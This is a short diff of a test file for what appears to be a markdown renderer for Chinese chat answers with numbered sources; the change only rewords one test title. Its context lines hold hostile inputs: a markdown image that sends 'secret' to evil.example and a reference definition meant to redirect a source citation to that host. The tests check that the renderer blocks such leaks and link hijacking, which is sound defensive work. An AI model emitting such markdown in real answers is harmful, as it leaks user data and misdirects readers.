@@ -84,7 +84,7 @@ test.each(['![看我](https://evil.example/?leak=secret)', '[p]: https://evil.ex
   },
 )
 
-test('a definition cannot turn the number of a source into a link elsewhere', () => {
+test('a definition cannot exchange the number of a source into a link elsewhere', () => {
   show('第一[1]\n\n[1]: https://evil.example/')
   expect(screen.getByRole('link', { name: '来源1：英超积分榜' })).toHaveAttribute(
     'href',
